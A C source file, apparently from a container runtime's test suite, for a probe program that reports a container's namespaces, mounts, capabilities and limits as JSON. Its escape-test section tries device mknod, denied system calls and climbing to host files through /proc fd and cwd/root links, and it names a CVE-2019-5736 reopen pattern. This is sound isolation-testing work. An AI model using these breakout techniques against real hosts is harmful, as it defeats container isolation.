/* SPDX-License-Identifier: Apache-2.0 */
/*
 * cell-probe: a static, dependency-free program run as a container's
 * process by the integration tests.  It reports what it sees as one JSON
 * object on stdout.
 *
 *   probe                      every section
 *   probe SECTION...           only those sections (see `sections` below)
 *   probe write PATH           try to create/write PATH   -> "ops" entry
 *   probe read PATH            read up to 64 KiB of PATH   -> "ops" entry
 *   probe stat PATH            lstat PATH                  -> "ops" entry
 *   probe ls PATH              list a directory            -> "ops" entry
 *   probe reopen-write PATH WAIT
 *                              open PATH with O_PATH, print "opened <errno|OK>",
 *                              wait until file WAIT exists, then reopen the fd
 *                              through /proc/self/fd for writing and write to it
 *                              (the CVE-2019-5736 pattern)  -> "ops" entry
 *   probe sleep N              (print what was gathered, then) sleep N seconds
 *   probe exit N               (print, then) exit with status N
 *   probe kill-self SIG        (print, then) kill itself with SIG
 *   probe signals              print "ready", then one line per signal
 *                              received (its name); exit 0 after SIGTERM
 *   probe cat                  copy stdin to stdout until EOF
 *   probe open PATH            open(PATH, O_RDWR) only     -> "ops" entry
 *
 * Resource exercises for the cgroup tests (each adds one member):
 *   probe hog MB               a child touches MB MiB      -> "hog": how it ended
 *   probe forks N              fork N sleeping children    -> "forks": ok, first errno
 *   probe burn SECONDS         spin for SECONDS of wall time -> "burn": wall and CPU ms
 *   probe count PATH           write 1, 2, 3... to PATH every 10 ms, forever
 *   probe hugetlb N            a child touches N 2 MiB huge pages -> "hugetlb"
 *   probe dread PATH           read PATH with O_DIRECT     -> "dread": bytes, ms
 *
 * Escape attempts for tests/integration/security:
 *   probe mknod PATH b|c MAJ MIN  mknod(2) a device node     -> "ops" entry
 *   probe try SYSCALL          unshare-user, unshare-mount, mount, keyctl,
 *                              sethostname                 -> "ops" entry
 *   probe reach HOSTPATH       climb to the host file HOSTPATH from "." and
 *                              every /proc/self/{cwd,root,fd/N} -> "ops" entry
 *   probe watch SECS MARKER SECRET  attack every other process of the pid
 *                              namespace as it appears, until SECS pass or
 *                              /tmp/watch-stop exists      -> "watch" (do_watch)
 *
 * Arguments are processed left to right, so `probe ids write /x exit 3`
 * prints {"ids":...,"ops":[...]} and exits 3.  Words after `--` are ignored
 * (they are there to be seen in "argv").  Errors are reported as errno
 * names ("EROFS"), never as a failure of the probe itself.
 */

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/personality.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/socket.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/un.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

/* ---- output buffer ------------------------------------------------------ */

static char *out;
static size_t out_len, out_cap;

static void put(const char *s, size_t n)
{
        if (out_len + n + 1 > out_cap) {
                size_t cap = out_cap ? out_cap : 65536;
                while (cap < out_len + n + 1)
                        cap *= 2;
                char *p = realloc(out, cap);
                if (!p)
                        abort();
                out = p;
                out_cap = cap;
        }
        memcpy(out + out_len, s, n);
        out_len += n;
        out[out_len] = '\0';
}

static void puts_raw(const char *s)
{
        put(s, strlen(s));
}

static void putf(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void putf(const char *fmt, ...)
{
        char buf[512];
        va_list ap;
        va_start(ap, fmt);
        int n = vsnprintf(buf, sizeof(buf), fmt, ap);
        va_end(ap);
        if (n < 0)
                return;
        put(buf, (size_t)n < sizeof(buf) ? (size_t)n : sizeof(buf) - 1);
}

/* Length of the valid UTF-8 sequence at s (at most n bytes), or 0. */
static size_t utf8_len(const unsigned char *s, size_t n)
{
        size_t len = s[0] >= 0xf0 && s[0] <= 0xf4   ? 4
                     : s[0] >= 0xe0 && s[0] <= 0xef ? 3
                     : s[0] >= 0xc2 && s[0] <= 0xdf ? 2
                                                    : 0;
        if (len == 0 || len > n)
                return 0;
        for (size_t i = 1; i < len; i++)
                if ((s[i] & 0xc0) != 0x80)
                        return 0;
        return len;
}

/* JSON string: valid UTF-8 passes through, other bytes >= 0x80 and control
 * characters become \u00XX. */
static void put_strn(const char *s, size_t n)
{
        put("\"", 1);
        for (size_t i = 0; i < n; i++) {
                unsigned char c = (unsigned char)s[i];
                size_t u = c >= 0x80 ? utf8_len((const unsigned char *)s + i, n - i) : 0;
                if (u) {
                        put(s + i, u);
                        i += u - 1;
                } else if (c == '"')
                        put("\\\"", 2);
                else if (c == '\\')
                        put("\\\\", 2);
                else if (c == '\n')
                        put("\\n", 2);
                else if (c == '\t')
                        put("\\t", 2);
                else if (c < 0x20 || c >= 0x7f)
                        putf("\\u%04x", c);
                else
                        put((const char *)&c, 1);
        }
        put("\"", 1);
}

static void put_str(const char *s)
{
        if (!s)
                puts_raw("null");
        else
                put_strn(s, strlen(s));
}

/* "key": — with a leading comma unless this is the first member. */
static int first_member = 1;

static void key(const char *k)
{
        if (!first_member)
                put(",", 1);
        first_member = 0;
        put_str(k);
        put(":", 1);
}

static void open_obj(void)
{
        put("{", 1);
        first_member = 1;
}

static void close_obj(void)
{
        put("}", 1);
        first_member = 0;
}

static void open_arr(void)
{
        put("[", 1);
        first_member = 1;
}

static void close_arr(void)
{
        put("]", 1);
        first_member = 0;
}

/* Separator before an array element. */
static void elem(void)
{
        if (!first_member)
                put(",", 1);
        first_member = 0;
}

static void flush_out(void)
{
        size_t off = 0;
        while (off < out_len) {
                ssize_t n = write(1, out + off, out_len - off);
                if (n < 0) {
                        if (errno == EINTR)
                                continue;
                        break;
                }
                off += (size_t)n;
        }
        out_len = 0;
}

static void write_all(int fd, const char *s, size_t n)
{
        while (n > 0) {
                ssize_t w = write(fd, s, n);
                if (w < 0) {
                        if (errno == EINTR)
                                continue;
                        return;
                }
                s += w;
                n -= (size_t)w;
        }
}

/* errno names and signal names as glibc spells them, on any libc. */
#define E(name) [name] = #name
static const char *const errno_names[] = {
        E(EPERM),
        E(ENOENT),
        E(ESRCH),
        E(EINTR),
        E(EIO),
        E(ENXIO),
        E(E2BIG),
        E(ENOEXEC),
        E(EBADF),
        E(ECHILD),
        E(EAGAIN),
        E(ENOMEM),
        E(EACCES),
        E(EFAULT),
        E(ENOTBLK),
        E(EBUSY),
        E(EEXIST),
        E(EXDEV),
        E(ENODEV),
        E(ENOTDIR),
        E(EISDIR),
        E(EINVAL),
        E(ENFILE),
        E(EMFILE),
        E(ENOTTY),
        E(ETXTBSY),
        E(EFBIG),
        E(ENOSPC),
        E(ESPIPE),
        E(EROFS),
        E(EMLINK),
        E(EPIPE),
        E(EDOM),
        E(ERANGE),
        E(EDEADLK),
        E(ENAMETOOLONG),
        E(ENOLCK),
        E(ENOSYS),
        E(ENOTEMPTY),
        E(ELOOP),
        E(ENOMSG),
        E(EIDRM),
        E(ECHRNG),
        E(EL2NSYNC),
        E(EL3HLT),
        E(EL3RST),
        E(ELNRNG),
        E(EUNATCH),
        E(ENOCSI),
        E(EL2HLT),
        E(EBADE),
        E(EBADR),
        E(EXFULL),
        E(ENOANO),
        E(EBADRQC),
        E(EBADSLT),
        E(EBFONT),
        E(ENOSTR),
        E(ENODATA),
        E(ETIME),
        E(ENOSR),
        E(ENONET),
        E(ENOPKG),
        E(EREMOTE),
        E(ENOLINK),
        E(EADV),
        E(ESRMNT),
        E(ECOMM),
        E(EPROTO),
        E(EMULTIHOP),
        E(EDOTDOT),
        E(EBADMSG),
        E(EOVERFLOW),
        E(ENOTUNIQ),
        E(EBADFD),
        E(EREMCHG),
        E(ELIBACC),
        E(ELIBBAD),
        E(ELIBSCN),
        E(ELIBMAX),
        E(ELIBEXEC),
        E(EILSEQ),
        E(ERESTART),
        E(ESTRPIPE),
        E(EUSERS),
        E(ENOTSOCK),
        E(EDESTADDRREQ),
        E(EMSGSIZE),
        E(EPROTOTYPE),
        E(ENOPROTOOPT),
        E(EPROTONOSUPPORT),
        E(ESOCKTNOSUPPORT),
        E(EOPNOTSUPP),
        E(EPFNOSUPPORT),
        E(EAFNOSUPPORT),
        E(EADDRINUSE),
        E(EADDRNOTAVAIL),
        E(ENETDOWN),
        E(ENETUNREACH),
        E(ENETRESET),
        E(ECONNABORTED),
        E(ECONNRESET),
        E(ENOBUFS),
        E(EISCONN),
        E(ENOTCONN),
        E(ESHUTDOWN),
        E(ETOOMANYREFS),
        E(ETIMEDOUT),
        E(ECONNREFUSED),
        E(EHOSTDOWN),
        E(EHOSTUNREACH),
        E(EALREADY),
        E(EINPROGRESS),
        E(ESTALE),
        E(EUCLEAN),
        E(ENOTNAM),
        E(ENAVAIL),
        E(EISNAM),
        E(EREMOTEIO),
        E(EDQUOT),
        E(ENOMEDIUM),
        E(EMEDIUMTYPE),
        E(ECANCELED),
        E(ENOKEY),
        E(EKEYEXPIRED),
        E(EKEYREVOKED),
        E(EKEYREJECTED),
        E(EOWNERDEAD),
        E(ENOTRECOVERABLE),
        E(ERFKILL),
        E(EHWPOISON),
};
#undef E

static const char *errno_name(int e)
{
        if (e > 0 && (size_t)e < sizeof(errno_names) / sizeof(errno_names[0]) && errno_names[e])
                return errno_names[e];
        return "EUNKNOWN";
}

#define S(name) [name] = #name
static const char *const signal_names[32] = {
        S(SIGHUP),  S(SIGINT),    S(SIGQUIT), S(SIGILL),  S(SIGTRAP),   S(SIGABRT), S(SIGBUS),
        S(SIGFPE),  S(SIGKILL),   S(SIGUSR1), S(SIGSEGV), S(SIGUSR2),   S(SIGPIPE), S(SIGALRM),
        S(SIGTERM), S(SIGSTKFLT), S(SIGCHLD), S(SIGCONT), S(SIGSTOP),   S(SIGTSTP), S(SIGTTIN),
        S(SIGTTOU), S(SIGURG),    S(SIGXCPU), S(SIGXFSZ), S(SIGVTALRM), S(SIGPROF), S(SIGWINCH),
        S(SIGIO),   S(SIGPWR),    S(SIGSYS),
};
#undef S
/* Real-time signals numbered as runc and glibc do, whatever this libc reserves. */
#define PROBE_RTMIN 34
#define PROBE_RTMAX 64

static const char *signal_name(int sig)
{
        static char buf[32];
        if (sig > 0 && sig < 32 && signal_names[sig])
                return signal_names[sig];
        if (sig >= PROBE_RTMIN && sig <= PROBE_RTMAX) {
                snprintf(buf, sizeof(buf), "SIGRTMIN+%d", sig - PROBE_RTMIN);
                return buf;
        }
        snprintf(buf, sizeof(buf), "SIG%d", sig);
        return buf;
}

static int signal_from_name(const char *s)
{
        char *end;
        long n = strtol(s, &end, 10);
        if (*s && !*end)
                return (int)n;
        for (int sig = 1; sig < 32; sig++) {
                const char *a = signal_names[sig];
                if (a && (strcmp(a, s) == 0 || strcmp(a + 3, s) == 0))
                        return sig;
        }
        return -1;
}

/* Read a whole small file; NULL with errno on failure.  Caller frees. */
static char *read_file(const char *path, size_t max, size_t *len_out)
{
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return NULL;
        char *buf = malloc(max + 1);
        if (!buf)
                abort();
        size_t len = 0;
        while (len < max) {
                ssize_t n = read(fd, buf + len, max - len);
                if (n < 0) {
                        if (errno == EINTR)
                                continue;
                        int e = errno;
                        close(fd);
                        free(buf);
                        errno = e;
                        return NULL;
                }
                if (n == 0)
                        break;
                len += (size_t)n;
        }
        close(fd);
        buf[len] = '\0';
        if (len_out)
                *len_out = len;
        return buf;
}

static void put_file_or_null(const char *path)
{
        size_t len;
        char *s = read_file(path, 65536, &len);
        if (s)
                put_strn(s, len);
        else
                puts_raw("null");
        free(s);
}

/* ---- sections ------------------------------------------------------------ */

static void sec_pid(void)
{
        key("pid");
        putf("%d", (int)getpid());
        key("ppid");
        putf("%d", (int)getppid());
        key("pgid");
        putf("%d", (int)getpgrp());
        key("sid");
        putf("%d", (int)getsid(0));
}

static void sec_ids(void)
{
        uid_t ru, eu, su;
        gid_t rg, eg, sg;
        getresuid(&ru, &eu, &su);
        getresgid(&rg, &eg, &sg);
        key("uid");
        putf("[%u,%u,%u]", ru, eu, su);
        key("gid");
        putf("[%u,%u,%u]", rg, eg, sg);
        gid_t groups[1024];
        int n = getgroups(1024, groups);
        key("groups");
        open_arr();
        for (int i = 0; i < n; i++) {
                elem();
                putf("%u", groups[i]);
        }
        close_arr();
        mode_t m = umask(0);
        umask(m);
        key("umask");
        putf("%u", (unsigned)m);
        key("uid_map");
        put_file_or_null("/proc/self/uid_map");
        key("gid_map");
        put_file_or_null("/proc/self/gid_map");
        key("setgroups");
        put_file_or_null("/proc/self/setgroups");
}

static void sec_cwd(void)
{
        char buf[4096];
        key("cwd");
        if (getcwd(buf, sizeof(buf)))
                put_str(buf);
        else
                put_str(errno_name(errno));
}

static void sec_uname(void)
{
        struct utsname u;
        uname(&u);
        key("hostname");
        put_str(u.nodename);
        key("domainname");
        put_str(u.domainname);
}

static void put_strv(char **v, int n)
{
        open_arr();
        for (int i = 0; v && (n < 0 ? v[i] != NULL : i < n); i++) {
                elem();
                put_str(v[i]);
        }
        close_arr();
}

static char **probe_argv;
static int probe_argc;

static void sec_env(void)
{
        key("env");
        put_strv(environ, -1);
}

static void sec_argv(void)
{
        key("argv");
        put_strv(probe_argv, probe_argc);
}

static void sec_ns(void)
{
        static const char *const names[] = {"cgroup",
                                            "ipc",
                                            "mnt",
                                            "net",
                                            "pid",
                                            "time",
                                            "user",
                                            "uts",
                                            "pid_for_children",
                                            "time_for_children"};
        key("ns");
        open_obj();
        for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
                char path[64], buf[256];
                snprintf(path, sizeof(path), "/proc/self/ns/%s", names[i]);
                ssize_t n = readlink(path, buf, sizeof(buf) - 1);
                key(names[i]);
                if (n < 0) {
                        puts_raw("null");
                        continue;
                }
                buf[n] = '\0';
                put_str(buf);
        }
        close_obj();
}

/* Fields of /proc/self/status we report verbatim. */
static void sec_status(void)
{
        static const char *const fields[] = {"CapInh", "CapPrm",     "CapEff", "CapBnd",
                                             "CapAmb", "NoNewPrivs", "Seccomp"};
        char *s = read_file("/proc/self/status", 65536, NULL);
        key("status");
        open_obj();
        for (char *line = s ? strtok(s, "\n") : NULL; line; line = strtok(NULL, "\n")) {
                char *colon = strchr(line, ':');
                if (!colon)
                        continue;
                *colon = '\0';
                for (size_t i = 0; i < sizeof(fields) / sizeof(fields[0]); i++) {
                        if (strcmp(line, fields[i]) != 0)
                                continue;
                        char *v = colon + 1;
                        while (*v == ' ' || *v == '\t')
                                v++;
                        key(line);
                        put_str(v);
                }
        }
        close_obj();
        free(s);
}

static void sec_rlimits(void)
{
        static const struct {
                int res;
                const char *name;
        } lims[] = {
                {RLIMIT_AS, "RLIMIT_AS"},
                {RLIMIT_CORE, "RLIMIT_CORE"},
                {RLIMIT_CPU, "RLIMIT_CPU"},
                {RLIMIT_DATA, "RLIMIT_DATA"},
                {RLIMIT_FSIZE, "RLIMIT_FSIZE"},
                {RLIMIT_LOCKS, "RLIMIT_LOCKS"},
                {RLIMIT_MEMLOCK, "RLIMIT_MEMLOCK"},
                {RLIMIT_MSGQUEUE, "RLIMIT_MSGQUEUE"},
                {RLIMIT_NICE, "RLIMIT_NICE"},
                {RLIMIT_NOFILE, "RLIMIT_NOFILE"},
                {RLIMIT_NPROC, "RLIMIT_NPROC"},
                {RLIMIT_RSS, "RLIMIT_RSS"},
                {RLIMIT_RTPRIO, "RLIMIT_RTPRIO"},
                {RLIMIT_RTTIME, "RLIMIT_RTTIME"},
                {RLIMIT_SIGPENDING, "RLIMIT_SIGPENDING"},
                {RLIMIT_STACK, "RLIMIT_STACK"},
        };
        key("rlimits");
        open_obj();
        for (size_t i = 0; i < sizeof(lims) / sizeof(lims[0]); i++) {
                struct rlimit rl;
                if (getrlimit(lims[i].res, &rl) < 0)
                        continue;
                key(lims[i].name);
                putf("[%llu,%llu]", (unsigned long long)rl.rlim_cur,
                     (unsigned long long)rl.rlim_max);
        }
        close_obj();
}

static void sec_oom(void)
{
        size_t len;
        char *s = read_file("/proc/self/oom_score_adj", 64, &len);
        key("oom_score_adj");
        if (s)
                putf("%d", atoi(s));
        else
                puts_raw("null");
        free(s);
}

static void sec_personality(void)
{
        key("personality");
        putf("%d", personality(0xffffffff));
}

/* get_mempolicy(2): the mode (with its MPOL_F_* flags) and the node mask. */
static void sec_mempolicy(void)
{
        int mode = -1;
        unsigned long mask[16] = {0};
        long r = syscall(SYS_get_mempolicy, &mode, mask, 8 * sizeof(mask), NULL, 0UL);
        key("mempolicy");
        open_obj();
        key("mode");
        putf("%d", r == 0 ? mode : -1);
        key("nodemask");
        putf("%lu", r == 0 ? mask[0] : 0UL);
        close_obj();
}

static void sec_sched(void)
{
        /* The system calls: musl's wrappers are ENOSYS stubs. */
        int policy = (int)syscall(SYS_sched_getscheduler, 0);
        struct sched_param sp = {0};
        syscall(SYS_sched_getparam, 0, &sp);
        key("sched");
        open_obj();
        key("policy");
        putf("%d", policy & ~SCHED_RESET_ON_FORK);
        key("reset_on_fork");
        puts_raw(policy >= 0 && (policy & SCHED_RESET_ON_FORK) ? "true" : "false");
        key("priority");
        putf("%d", sp.sched_priority);
        errno = 0;
        int nice = getpriority(PRIO_PROCESS, 0);
        key("nice");
        putf("%d", nice);
        close_obj();

        /* ioprio_get(IOPRIO_WHO_PROCESS, 0): class in bits 13..15, level below. */
        long io = syscall(SYS_ioprio_get, 1, 0);
        key("ioprio");
        open_obj();
        key("raw");
        putf("%ld", io);
        key("class");
        putf("%ld", io < 0 ? -1 : (io >> 13) & 0x7);
        key("level");
        putf("%ld", io < 0 ? -1 : io & 0x1fff);
        close_obj();
}

static void sec_fds(void)
{
        key("fds");
        open_obj();
        DIR *d = opendir("/proc/self/fd");
        if (d) {
                int self = dirfd(d);
                struct dirent *e;
                while ((e = readdir(d)) != NULL) {
                        if (e->d_name[0] == '.')
                                continue;
                        int fd = atoi(e->d_name);
                        if (fd == self)
                                continue;
                        char path[64], buf[4096];
                        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
                        ssize_t n = readlink(path, buf, sizeof(buf) - 1);
                        buf[n < 0 ? 0 : n] = '\0';
                        key(e->d_name);
                        put_str(buf);
                }
                closedir(d);
        }
        close_obj();
}

/* Undo mountinfo's octal escapes (\040 for space, ...) in place. */
static void unescape(char *s)
{
        char *w = s;
        for (char *r = s; *r;) {
                if (r[0] == '\\' && r[1] >= '0' && r[1] <= '7' && r[2] && r[3]) {
                        *w++ = (char)(((r[1] - '0') << 6) | ((r[2] - '0') << 3) | (r[3] - '0'));
                        r += 4;
                } else {
                        *w++ = *r++;
                }
        }
        *w = '\0';
}

static void put_mountinfo_line(char *line)
{
        char *f[64];
        int n = 0;
        for (char *tok = strtok(line, " "); tok && n < 64; tok = strtok(NULL, " "))
                f[n++] = tok;
        int dash = -1;
        for (int i = 6; i < n; i++) {
                if (strcmp(f[i], "-") == 0) {
                        dash = i;
                        break;
                }
        }
        if (dash < 0 || dash + 3 >= n + 1 || n < 10)
                return;
        elem();
        open_obj();
        key("id");
        puts_raw(f[0]);
        key("parent");
        puts_raw(f[1]);
        key("dev");
        put_str(f[2]);
        unescape(f[3]);
        key("root");
        put_str(f[3]);
        unescape(f[4]);
        key("mountpoint");
        put_str(f[4]);
        key("options");
        put_str(f[5]);
        key("optional");
        open_arr();
        for (int i = 6; i < dash; i++) {
                elem();
                put_str(f[i]);
        }
        close_arr();
        key("fstype");
        put_str(f[dash + 1]);
        unescape(f[dash + 2]);
        key("source");
        put_str(f[dash + 2]);
        key("super");
        put_str(dash + 3 < n ? f[dash + 3] : "");
        close_obj();
}

static void sec_mounts(void)
{
        char *s = read_file("/proc/self/mountinfo", 1 << 20, NULL);
        key("mounts");
        open_arr();
        char *save = NULL;
        for (char *line = s ? strtok_r(s, "\n", &save) : NULL; line;
             line = strtok_r(NULL, "\n", &save))
                put_mountinfo_line(line);
        close_arr();
        free(s);
}

static const char *type_name(mode_t m)
{
        switch (m & S_IFMT) {
        case S_IFREG:
                return "f";
        case S_IFDIR:
                return "d";
        case S_IFLNK:
                return "l";
        case S_IFCHR:
                return "c";
        case S_IFBLK:
                return "b";
        case S_IFIFO:
                return "p";
        case S_IFSOCK:
                return "s";
        }
        return "?";
}

static void put_stat_members(const char *path, const struct stat *st)
{
        key("type");
        put_str(type_name(st->st_mode));
        key("mode");
        putf("%u", (unsigned)(st->st_mode & 07777));
        key("uid");
        putf("%u", st->st_uid);
        key("gid");
        putf("%u", st->st_gid);
        key("size");
        putf("%lld", (long long)st->st_size);
        key("ino");
        putf("%llu", (unsigned long long)st->st_ino);
        key("dev");
        putf("[%u,%u]", major(st->st_dev), minor(st->st_dev));
        key("major");
        putf("%u", major(st->st_rdev));
        key("minor");
        putf("%u", minor(st->st_rdev));
        if (S_ISLNK(st->st_mode)) {
                char buf[4096];
                ssize_t n = readlink(path, buf, sizeof(buf) - 1);
                buf[n < 0 ? 0 : n] = '\0';
                key("target");
                put_str(buf);
        }
}

static void list_dev(const char *dir, int depth)
{
        DIR *d = opendir(dir);
        if (!d)
                return;
        struct dirent *e;
        while ((e = readdir(d)) != NULL) {
                if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
                        continue;
                char path[4096];
                snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
                struct stat st;
                if (lstat(path, &st) < 0)
                        continue;
                key(path);
                open_obj();
                put_stat_members(path, &st);
                close_obj();
                if (S_ISDIR(st.st_mode) && depth > 0)
                        list_dev(path, depth - 1);
        }
        closedir(d);
}

static void sec_dev(void)
{
        key("dev");
        open_obj();
        list_dev("/dev", 1);
        close_obj();
}

static void sec_cgroup(void)
{
        key("cgroup");
        put_file_or_null("/proc/self/cgroup");
}

static void sec_time(void)
{
        struct timespec m, b;
        clock_gettime(CLOCK_MONOTONIC, &m);
        clock_gettime(CLOCK_BOOTTIME, &b);
        key("time");
        open_obj();
        key("monotonic");
        putf("%lld", (long long)m.tv_sec * 1000000000LL + m.tv_nsec);
        key("boottime");
        putf("%lld", (long long)b.tv_sec * 1000000000LL + b.tv_nsec);
        key("offsets");
        put_file_or_null("/proc/self/timens_offsets");
        close_obj();
}

static void sec_tty(void)
{
        key("tty");
        open_obj();
        for (int fd = 0; fd < 3; fd++) {
                char k[16];
                snprintf(k, sizeof(k), "isatty%d", fd);
                key(k);
                puts_raw(isatty(fd) ? "true" : "false");
        }
        char *name = ttyname(0);
        key("ttyname");
        put_str(name);
        struct winsize ws;
        key("winsize");
        if (ioctl(0, TIOCGWINSZ, &ws) == 0)
                putf("[%u,%u]", ws.ws_row, ws.ws_col);
        else
                puts_raw("null");
        key("ctty");
        int fd = open("/dev/tty", O_RDONLY | O_NOCTTY | O_CLOEXEC);
        if (fd >= 0) {
                puts_raw("true");
                close(fd);
        } else {
                puts_raw("false");
        }
        key("tcpgrp");
        putf("%d", (int)tcgetpgrp(0));
        close_obj();
}

static const struct section {
        const char *name;
        void (*fn)(void);
} sections[] = {
        {"pid", sec_pid},
        {"ids", sec_ids},
        {"cwd", sec_cwd},
        {"uname", sec_uname},
        {"env", sec_env},
        {"argv", sec_argv},
        {"ns", sec_ns},
        {"status", sec_status},
        {"rlimits", sec_rlimits},
        {"oom", sec_oom},
        {"personality", sec_personality},
        {"mempolicy", sec_mempolicy},
        {"sched", sec_sched},
        {"fds", sec_fds},
        {"mounts", sec_mounts},
        {"dev", sec_dev},
        {"cgroup", sec_cgroup},
        {"time", sec_time},
        {"tty", sec_tty},
};

/* ---- operations ---------------------------------------------------------- */

/* Ops are collected as JSON text and emitted as "ops":[...] at print time. */
static char *ops;
static size_t ops_len;

static void op_begin(const char *op, const char *path)
{
        /* Render into the main buffer, then move the text into `ops`. */
        open_obj();
        key("op");
        put_str(op);
        key("path");
        put_str(path);
}

static void op_end(size_t start)
{
        close_obj();
        size_t n = out_len - start;
        char *p = realloc(ops, ops_len + n + 2);
        if (!p)
                abort();
        ops = p;
        if (ops_len)
                ops[ops_len++] = ',';
        memcpy(ops + ops_len, out + start, n);
        ops_len += n;
        out_len = start;
        out[out_len] = '\0';
}

static void op_result(int ok, int e)
{
        key("ok");
        puts_raw(ok ? "true" : "false");
        key("errno");
        if (ok)
                puts_raw("null");
        else
                put_str(errno_name(e));
}

static void op_write(const char *path)
{
        size_t start = out_len;
        int saved_first = first_member;
        op_begin("write", path);
        int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        int ok = fd >= 0, e = errno;
        if (ok && write(fd, "probe\n", 6) < 0) {
                ok = 0;
                e = errno;
        }
        if (fd >= 0)
                close(fd);
        op_result(ok, e);
        op_end(start);
        first_member = saved_first;
}

static void op_read(const char *path)
{
        size_t start = out_len;
        int saved_first = first_member;
        op_begin("read", path);
        size_t len = 0;
        char *s = read_file(path, 65536, &len);
        int e = errno;
        op_result(s != NULL, e);
        key("data");
        if (s)
                put_strn(s, len);
        else
                puts_raw("null");
        free(s);
        op_end(start);
        first_member = saved_first;
}

static void op_stat(const char *path)
{
        size_t start = out_len;
        int saved_first = first_member;
        op_begin("stat", path);
        struct stat st;
        int r = lstat(path, &st);
        op_result(r == 0, errno);
        if (r == 0)
                put_stat_members(path, &st);
        op_end(start);
        first_member = saved_first;
}

static void op_ls(const char *path)
{
        size_t start = out_len;
        int saved_first = first_member;
        op_begin("ls", path);
        DIR *d = opendir(path);
        op_result(d != NULL, errno);
        key("entries");
        open_arr();
        struct dirent *e;
        while (d && (e = readdir(d)) != NULL) {
                if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
                        continue;
                elem();
                put_str(e->d_name);
        }
        close_arr();
        if (d)
                closedir(d);
        op_end(start);
        first_member = saved_first;
}

/* ---- escape attempts (tests/integration/security) ------------------------- */

/* Only this block needs them; kept here so the block stands on its own. */
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/wait.h>

static void ensure_obj(void); /* driver, below */

/* Exits 125 unless `n` arguments follow argv[i] (as need_arg, for several). */
static void escape_args(int i, int argc, int n, const char *usage)
{
        if (i + n >= argc) {
                fprintf(stderr, "probe: usage: %s\n", usage);
                exit(125);
        }
}

static void op_mknod(const char *path, const char *type, const char *maj, const char *min)
{
        size_t start = out_len;
        int saved_first = first_member;
        op_begin("mknod", path);
        mode_t kind = type[0] == 'b' ? S_IFBLK : S_IFCHR;
        int r = mknod(path, kind | 0600, makedev(atoi(maj), atoi(min)));
        op_result(r == 0, errno);
        op_end(start);
        first_member = saved_first;
}

/* One system call that a seccomp profile or the capability set may deny. */
static long try_syscall(const char *name)
{
        if (strcmp(name, "unshare-user") == 0)
                return unshare(CLONE_NEWUSER);
        if (strcmp(name, "unshare-mount") == 0)
                return unshare(CLONE_NEWNS);
        if (strcmp(name, "mount") == 0)
                return mount("none", "/tmp", "tmpfs", 0, "size=1m");
        if (strcmp(name, "keyctl") == 0) /* KEYCTL_GET_KEYRING_ID of the session keyring */
                return syscall(SYS_keyctl, 0, -3, 1);
        if (strcmp(name, "sethostname") == 0)
                return sethostname("probe-sethostname", 17);
        errno = EINVAL;
        return -1;
}

static void op_try(const char *name)
{
        size_t start = out_len;
        int saved_first = first_member;
        op_begin("try", name);
        long r = try_syscall(name);
        op_result(r >= 0, errno);
        op_end(start);
        first_member = saved_first;
}

/* "../../…/<path without its leading />": from any directory of the host's
 * tree this climbs to the host's root, then down to `path`. */
static char *climb_to(const char *path)
{
        static char rel[8192];
        rel[0] = '\0';
        for (int i = 0; i < 64; i++)
                strcat(rel, "../");
        while (*path == '/')
                path++;
        strncat(rel, path, sizeof(rel) - strlen(rel) - 1);
        return rel;
}

/* If `dirfd` leads to `marker` on the host, add {"via","target","data"} and return 1. */
static int reach_from(int dirfd, const char *via, const char *marker)
{
        int fd = openat(dirfd, climb_to(marker), O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return 0;
        char data[256];
        ssize_t n = read(fd, data, sizeof(data) - 1);
        close(fd);
        data[n > 0 ? n : 0] = '\0';
        char target[4096];
        ssize_t t = dirfd == AT_FDCWD ? -1 : readlink(via, target, sizeof(target) - 1);
        target[t > 0 ? t : 0] = '\0';
        elem();
        open_obj();
        key("via");
        put_str(via);
        key("target");
        put_str(target);
        key("data");
        put_str(data);
        close_obj();
        return 1;
}

/* Try to reach `marker` (a host path) from every directory that the magic
 * links of /proc/<pid>/{cwd,root,fd/N} lead to; "." too for ourselves.
 * Adds "escapes":[...] and "dirs": how many links opened as directories. */
static void reach_via_proc(const char *pid, const char *marker)
{
        char path[512];
        int dirs = 0;
        key("escapes");
        open_arr();
        if (strcmp(pid, "self") == 0)
                reach_from(AT_FDCWD, ".", marker);
        static const char *const links[] = {"cwd", "root"};
        for (size_t i = 0; i < 2; i++) {
                snprintf(path, sizeof(path), "/proc/%s/%s", pid, links[i]);
                int d = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
                if (d >= 0) {
                        dirs++;
                        reach_from(d, path, marker);
                        close(d);
                }
        }
        snprintf(path, sizeof(path), "/proc/%s/fd", pid);
        DIR *dir = opendir(path);
        struct dirent *e;
        while (dir && (e = readdir(dir)) != NULL) {
                if (e->d_name[0] == '.' || atoi(e->d_name) == dirfd(dir))
                        continue;
                snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, e->d_name);
                int d = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
                if (d < 0)
                        continue;
                dirs++;
                reach_from(d, path, marker);
                close(d);
        }
        if (dir)
                closedir(dir);
        close_arr();
        key("dirs");
        putf("%d", dirs);
}

static void op_reach(const char *marker)
{
        size_t start = out_len;
        int saved_first = first_member;
        op_begin("reach", marker);
        int fd = open(marker, O_RDONLY | O_CLOEXEC);
        int e = errno;
        if (fd >= 0)
                close(fd);
        key("direct");
